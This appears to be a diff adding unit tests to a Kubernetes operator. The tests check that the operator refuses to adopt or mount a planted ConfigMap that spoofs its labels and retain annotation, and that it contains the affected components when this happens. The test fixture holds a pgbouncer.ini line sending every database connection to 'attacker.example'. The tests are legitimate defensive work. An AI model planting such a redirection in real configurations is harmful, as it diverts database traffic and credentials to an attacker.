@@ -15,6 +15,7 @@ import yaml
 from headroom.api import conditions
 from headroom.builders import revision
 from headroom.kube import errors
+from headroom.planning import names, object_storage
 from headroom.reconcile import compare, outcome, reconciler, telemetry
 from tests import certs, profiles
 from tests.unit import fake_cluster
@@ -247,6 +248,82 @@ def test_a_foreign_object_contains_its_component_and_the_binding_skips_it() -> N
     pooler = _conditions(cluster)["PoolerReady"]
     assert pooler["reason"] == "NameConflict"
     assert "ConfigMap/shop-pooler-config" in pooler["message"]
+
+
+def _foreign(kind: str, name: str, *, marks: bool) -> dict[str, Any]:
+    """Somebody else's object with one of our children's names; ``marks``: it
+    carries our labels and the retain annotation (which anyone can write)."""
+    meta: dict[str, Any] = {"name": name, "namespace": "default"}
+    if marks:
+        meta["labels"] = names.labels(
+            "shop", app_deployment="shop-web", component="pooler", app_name="pgbouncer"
+        )
+        meta["annotations"] = {object_storage.RETAIN_ANNOTATION: "true"}
+    data = {"pgbouncer.ini": "[databases]\n* = host=attacker.example\n"}
+    return {"apiVersion": "v1", "kind": kind, "metadata": meta, "data": data}
+
+
+def test_our_labels_and_the_retain_annotation_do_not_make_an_object_ours() -> None:
+    cluster = _cluster(_scaled())
+    cluster.put(_foreign("ConfigMap", "shop-pooler-config", marks=True))
+    _run(cluster)
+    foreign = cluster.find("ConfigMap", "shop-pooler-config")
+    assert foreign is not None and "attacker" in foreign["data"]["pgbouncer.ini"]
+    assert "ownerReferences" not in foreign["metadata"]
+    assert cluster.find("Deployment", "shop-pooler") is None
+    assert _conditions(cluster)["PoolerReady"]["reason"] == "NameConflict"
+    assert "DATABASE_URL_POOLED" not in _secret(cluster, "shop-binding")
+
+
+def test_a_child_replaced_after_convergence_contains_its_whole_component() -> None:
+    cluster = _cluster(_scaled())
+    eng, _ = _run(cluster)
+    _again(eng)
+    assert cluster.find("Deployment", "shop-pooler") is not None
+    workers_before = _pod_annotations(cluster, "Deployment", "shop-worker-emails")
+    # while the operator was away, the pooler's config became somebody else's
+    ours = cluster.find("ConfigMap", "shop-pooler-config")
+    assert ours is not None
+    asyncio.run(cluster.delete(ours))
+    cluster.put(_foreign("ConfigMap", "shop-pooler-config", marks=True))
+    eng = reconciler.Reconciler(cluster, telemetry.Metrics())  # a restarted operator
+    _again(eng)
+    # no pod of ours mounts it: the pooler's Deployment is gone, nothing of it applied
+    assert cluster.find("Deployment", "shop-pooler") is None
+    foreign = cluster.find("ConfigMap", "shop-pooler-config")
+    assert foreign is not None and "attacker" in foreign["data"]["pgbouncer.ini"]
+    found = _conditions(cluster)
+    assert found["PoolerReady"]["reason"] == "NameConflict"
+    assert found[conditions.CHILDREN_OWNED]["reason"] == "NameConflict"
+    assert found["Ready"]["status"] == "False"
+    binding = _secret(cluster, "shop-binding")
+    assert "DATABASE_URL_POOLED" not in binding and "uri" not in binding
+    # the workers read the binding as environment: they roll onto the new one
+    workers_after = _pod_annotations(cluster, "Deployment", "shop-worker-emails")
+    assert workers_after[revision.INPUTS_REVISION] != workers_before[revision.INPUTS_REVISION]
+    # once the other object is gone, the component comes back whole
+    asyncio.run(cluster.delete(foreign))
+    _again(eng)
+    _again(eng)
+    assert cluster.find("Deployment", "shop-pooler") is not None
+    assert _conditions(cluster)["PoolerReady"]["reason"] != "NameConflict"
+
+
+def test_a_replaced_redis_config_scales_its_statefulset_away_and_contains_its_queue() -> None:
+    cluster = _cluster(_scaled())
+    eng, _ = _run(cluster)
+    ours = cluster.find("ConfigMap", "shop-redis-jobs-config")
+    assert ours is not None
+    asyncio.run(cluster.delete(ours))
+    cluster.put(_foreign("ConfigMap", "shop-redis-jobs-config", marks=False))
+    _again(eng)
+    redis = cluster.find("StatefulSet", "shop-redis-jobs")
+    assert redis is not None and redis["spec"]["replicas"] == 0  # its volumes stay
+    assert cluster.find("Deployment", "shop-worker-emails") is None  # its queue's workers
+    found = _conditions(cluster)
+    assert found["CacheReady"]["reason"] == "NameConflict"
+    assert found["WorkersReady"]["reason"] == "NameConflict"
+    assert "REDIS_JOBS_URL" not in _secret(cluster, "shop-binding")
 
 
 def test_a_foreign_redis_secret_contains_the_queue_that_needs_it() -> None:
